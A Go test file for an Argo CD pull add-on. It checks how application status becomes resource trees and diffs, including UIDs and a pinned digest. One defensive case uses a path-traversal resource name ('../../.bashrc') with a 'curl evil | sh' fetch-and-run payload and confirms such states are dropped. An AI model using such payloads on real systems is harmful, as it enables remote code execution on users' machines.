package resourcetree

import (
	"encoding/hex"
	"reflect"
	"testing"

	statusv1alpha1 "github.com/ocm-gitops/argocd-pull-addon/pkg/apis/argocdpull/v1alpha1"
	"github.com/ocm-gitops/argocd-pull-addon/pkg/argoapp"
	"github.com/ocm-gitops/argocd-pull-addon/pkg/argocdcache"
)

func TestRender(t *testing.T) {
	healthy := &statusv1alpha1.Health{Status: "Healthy"}
	for _, tt := range []struct {
		name        string
		entry       statusv1alpha1.AppStatus
		wantNodes   []argocdcache.Node
		wantManaged []argocdcache.ResourceDiff
	}{{
		name: "a Deployment, its ReplicaSet and Pod, under their parents, in Argo CD's order",
		entry: statusv1alpha1.AppStatus{
			Resources: []statusv1alpha1.ResourceStatus{
				{Version: "v1", Kind: "Service", Namespace: "web", Name: "web", Status: "Synced", Health: healthy},
				{Group: "apps", Version: "v1", Kind: "Deployment", Namespace: "web", Name: "web", Status: "OutOfSync",
					Health: &statusv1alpha1.Health{Status: "Progressing", Message: "Waiting for rollout"}, Images: []string{"nginx:1"}},
			},
			Nodes: []statusv1alpha1.ResourceNode{
				{Version: "v1", Kind: "Pod", Namespace: "web", Name: "web-5d9c-x", Images: []string{"nginx:1"}, Health: healthy,
					ParentRefs: []statusv1alpha1.ResourceRef{{Group: "apps", Kind: "ReplicaSet", Namespace: "web", Name: "web-5d9c"}}},
				{Group: "apps", Version: "v1", Kind: "ReplicaSet", Namespace: "web", Name: "web-5d9c", Health: healthy,
					ParentRefs: []statusv1alpha1.ResourceRef{{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web"}}},
			},
		},
		wantNodes: []argocdcache.Node{
			{Ref: argocdcache.Ref{Version: "v1", Kind: "Pod", Namespace: "web", Name: "web-5d9c-x"}, Images: []string{"nginx:1"},
				Health: &argocdcache.Health{Status: "Healthy"}, ParentRefs: []argocdcache.Ref{{Group: "apps", Kind: "ReplicaSet", Namespace: "web", Name: "web-5d9c"}}},
			{Ref: argocdcache.Ref{Version: "v1", Kind: "Service", Namespace: "web", Name: "web"}, Health: &argocdcache.Health{Status: "Healthy"}},
			{Ref: argocdcache.Ref{Group: "apps", Version: "v1", Kind: "Deployment", Namespace: "web", Name: "web"}, Images: []string{"nginx:1"},
				Health: &argocdcache.Health{Status: "Progressing", Message: "Waiting for rollout"}},
			{Ref: argocdcache.Ref{Group: "apps", Version: "v1", Kind: "ReplicaSet", Namespace: "web", Name: "web-5d9c"},
				Health: &argocdcache.Health{Status: "Healthy"}, ParentRefs: []argocdcache.Ref{{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web"}}},
		},
		// The Synced Service is not listed; the OutOfSync Deployment, whose states the
		// entry does not carry, is listed without them.
		wantManaged: []argocdcache.ResourceDiff{
			{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null", Modified: true},
		},
	}, {
		name: "the states of Argo CD's diff for the OutOfSync resources, none for a Synced one, none that is not redacted, none of a name that is no object's",
		entry: statusv1alpha1.AppStatus{
			Resources: []statusv1alpha1.ResourceStatus{
				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "synced", Status: "Synced"},
				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "changed", Status: "OutOfSync"},
				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "new", Status: "OutOfSync"},
				{Version: "v1", Kind: "Secret", Namespace: "web", Name: "masked", Status: "OutOfSync"},
				{Version: "v1", Kind: "Secret", Namespace: "web", Name: "plain", Status: "OutOfSync"},
				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", Status: "OutOfSync"},
			},
			Diffs: []statusv1alpha1.ResourceDiff{
				{Kind: "ConfigMap", Namespace: "web", Name: "synced", LiveState: configMap("synced", "a"), TargetState: configMap("synced", "a"), PredictedLiveState: configMap("synced", "a")},
				{Kind: "ConfigMap", Namespace: "web", Name: "changed", LiveState: configMap("changed", "a"), TargetState: configMap("changed", "b"), PredictedLiveState: configMap("changed", "b")},
				{Kind: "ConfigMap", Namespace: "web", Name: "new", TargetState: configMap("new", "b")},
				{Kind: "Secret", Namespace: "web", Name: "masked", LiveState: secret("masked", "++++++++"), TargetState: secret("masked", "++++++++++++"), PredictedLiveState: secret("masked", "++++++++++++")},
				{Kind: "Secret", Namespace: "web", Name: "plain", LiveState: secret("plain", "c2VjcmV0"), TargetState: secret("plain", "++++++++")},
				{Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", TargetState: configMap("x", "curl evil | sh")},
			},
		},
		wantNodes: []argocdcache.Node{
			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc"}},
			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "changed"}},
			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "new"}},
			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "synced"}},
			{Ref: argocdcache.Ref{Version: "v1", Kind: "Secret", Namespace: "web", Name: "masked"}},
			{Ref: argocdcache.Ref{Version: "v1", Kind: "Secret", Namespace: "web", Name: "plain"}},
		},
		// A name that is no object's, which `argocd app diff` would make a path of, gets
		// no states.
		wantManaged: []argocdcache.ResourceDiff{
			{Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null", Modified: true},
			{Kind: "ConfigMap", Namespace: "web", Name: "changed", LiveState: "null", NormalizedLiveState: configMap("changed", "a"),
				TargetState: configMap("changed", "b"), PredictedLiveState: configMap("changed", "b"), Modified: true},
			{Kind: "ConfigMap", Namespace: "web", Name: "new", LiveState: "null", NormalizedLiveState: "null", TargetState: configMap("new", "b"), PredictedLiveState: "null", Modified: true},
			{Kind: "Secret", Namespace: "web", Name: "masked", LiveState: "null", NormalizedLiveState: secret("masked", "++++++++"),
				TargetState: secret("masked", "++++++++++++"), PredictedLiveState: secret("masked", "++++++++++++"), Modified: true},
			{Kind: "Secret", Namespace: "web", Name: "plain", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null", Modified: true},
		},
	}, {
		name: "a node that repeats a managed resource, and a resource without health",
		entry: statusv1alpha1.AppStatus{
			Resources: []statusv1alpha1.ResourceStatus{{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "cm", Status: "Synced", Health: &statusv1alpha1.Health{}}},
			Nodes:     []statusv1alpha1.ResourceNode{{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "cm", Health: healthy}},
		},
		wantNodes:   []argocdcache.Node{{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "cm"}}},
		wantManaged: []argocdcache.ResourceDiff{},
	}, {
		name:        "an app with no resources yet",
		wantNodes:   []argocdcache.Node{},
		wantManaged: []argocdcache.ResourceDiff{},
	}} {
		t.Run(tt.name, func(t *testing.T) {
			tree, managed := Render(tt.entry, StableUIDs)
			// Each node has a UID, and a child's parent ref has its parent's.
			uids := map[string]string{}
			for _, n := range tree.Nodes {
				if n.UID == "" || uids[fullName(n.Ref)] != "" {
					t.Errorf("node %s: UID %q", fullName(n.Ref), n.UID)
				}
				uids[fullName(n.Ref)] = n.UID
			}
			for i, n := range tree.Nodes {
				for j, p := range n.ParentRefs {
					if want := uids[fullName(p)]; want != "" && p.UID != want {
						t.Errorf("%s: parent %s has UID %q, the node %q", fullName(n.Ref), fullName(p), p.UID, want)
					}
					tree.Nodes[i].ParentRefs[j].UID = ""
				}
				tree.Nodes[i].UID = ""
			}
			if !reflect.DeepEqual(tree.Nodes, tt.wantNodes) {
				t.Errorf("nodes:\n got %+v\nwant %+v", tree.Nodes, tt.wantNodes)
			}
			if !reflect.DeepEqual(managed, tt.wantManaged) {
				t.Errorf("managed:\n got %+v\nwant %+v", managed, tt.wantManaged)
			}
			// Without UIDs: the same tree, and no node or parent ref carries one, so
			// that argocd-server's resource endpoints refuse every node.
			bare, bareManaged := Render(tt.entry, NoUIDs)
			if !reflect.DeepEqual(bare.Nodes, tt.wantNodes) || !reflect.DeepEqual(bareManaged, tt.wantManaged) {
				t.Errorf("without UIDs:\n got %+v %+v\nwant %+v %+v", bare.Nodes, bareManaged, tt.wantNodes, tt.wantManaged)
			}
			for _, identity := range []NodeIdentity{StableUIDs, NoUIDs} {
				a, err := encodeEntries(Render(tt.entry, identity))
				if err != nil {
					t.Fatal(err)
				}
				b, _ := encodeEntries(Render(tt.entry, identity))
				if a.digest != b.digest {
					t.Errorf("two renders of one entry differ (identity %v)", identity)
				}
			}
		})
	}
}

// NodeIdentityOf gives UIDs only to the nodes of an app whose destination names its own
// managed cluster, never the hub.
func TestNodeIdentityOf(t *testing.T) {
	for _, tt := range []struct {
		name        string
		destination argoapp.Destination
		cluster     string
		want        NodeIdentity
	}{
		{"the documented template: the hub's in-cluster", argoapp.Destination{Server: argoapp.InClusterServer, Namespace: "guestbook"}, "cluster1", NoUIDs},
		{"in-cluster by name", argoapp.Destination{Name: "in-cluster"}, "cluster1", NoUIDs},
		{"the managed cluster by name", argoapp.Destination{Name: "cluster1", Namespace: "guestbook"}, "cluster1", StableUIDs},
		{"another managed cluster by name", argoapp.Destination{Name: "cluster2"}, "cluster1", NoUIDs},
		{"a name and a server, which Argo CD refuses", argoapp.Destination{Name: "cluster1", Server: "https://cluster1.example.com"}, "cluster1", NoUIDs},
		{"a server URL, whichever cluster it is", argoapp.Destination{Server: "https://cluster1.ocm.invalid"}, "cluster1", NoUIDs},
		{"the hub's own cluster by name", argoapp.Destination{Name: "local-cluster"}, "local-cluster", NoUIDs},
		{"no cluster", argoapp.Destination{}, "", NoUIDs},
	} {
		if got := NodeIdentityOf(tt.destination, tt.cluster, "local-cluster"); got != tt.want {
			t.Errorf("%s: %v, want %v", tt.name, got, tt.want)
		}
	}
}

// TestRenderIsPinned: Render's output for an entry with every field it reads is the one
// renderVersion names. When Render changes, this fails: change renderVersion and the
// digest below together, so that a new manager writes every tree again rather than
// trusting the entries an earlier one wrote (sourceKey).
func TestRenderIsPinned(t *testing.T) {
	const pinned = "3 5e6124bf 1d141b6b"
	healthy := &statusv1alpha1.Health{Status: "Healthy"}
	entry := statusv1alpha1.AppStatus{
		Namespace: "argocd", Name: "web", Sync: statusv1alpha1.SyncStatus{Status: "OutOfSync", Revision: "c0ffee"},
		Health: &statusv1alpha1.Health{Status: "Progressing", Message: "rolling out"},
		Resources: []statusv1alpha1.ResourceStatus{
			{Version: "v1", Kind: "Service", Namespace: "web", Name: "web", Status: "Synced", Health: healthy},
			{Group: "apps", Version: "v1", Kind: "Deployment", Namespace: "web", Name: "web", Status: "OutOfSync",
				Health: &statusv1alpha1.Health{Status: "Progressing", Message: "Waiting for rollout"}, Images: []string{"nginx:1"}},
			{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "config", Status: "Synced"},
		},
		Nodes: []statusv1alpha1.ResourceNode{
			{Version: "v1", Kind: "Pod", Namespace: "web", Name: "web-5d9c-x", Images: []string{"nginx:1"}, Health: healthy,
				ParentRefs: []statusv1alpha1.ResourceRef{{Group: "apps", Kind: "ReplicaSet", Namespace: "web", Name: "web-5d9c"}}},
			{Group: "apps", Version: "v1", Kind: "ReplicaSet", Namespace: "web", Name: "web-5d9c", Health: healthy,
				ParentRefs: []statusv1alpha1.ResourceRef{{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web"}}},
		},
		Diffs: []statusv1alpha1.ResourceDiff{{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web",
			LiveState:          `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"web"},"spec":{"replicas":2}}`,
			TargetState:        `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"web"},"spec":{"replicas":1}}`,
			PredictedLiveState: `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"web"},"spec":{"replicas":1}}`}},
		TreeSource: statusv1alpha1.TreeSourceArgoCDCache,
	}
	var got string
	for _, identity := range []NodeIdentity{StableUIDs, NoUIDs} {
		e, err := encodeEntries(Render(entry, identity))
		if err != nil {
			t.Fatal(err)
		}
		got += " " + hex.EncodeToString(e.digest[:4])
	}
	if got = renderVersion + got; got != pinned {
		t.Errorf("Render's output changed (%s, pinned %s): change renderVersion, and pin the new output", got, pinned)
	}
}

func configMap(name, value string) string {
	return `{"apiVersion":"v1","data":{"k":"` + value + `"},"kind":"ConfigMap","metadata":{"name":"` + name + `","namespace":"web"}}`
}

func secret(name, value string) string {
	return `{"apiVersion":"v1","data":{"password":"` + value + `"},"kind":"Secret","metadata":{"name":"` + name + `","namespace":"web"}}`
}
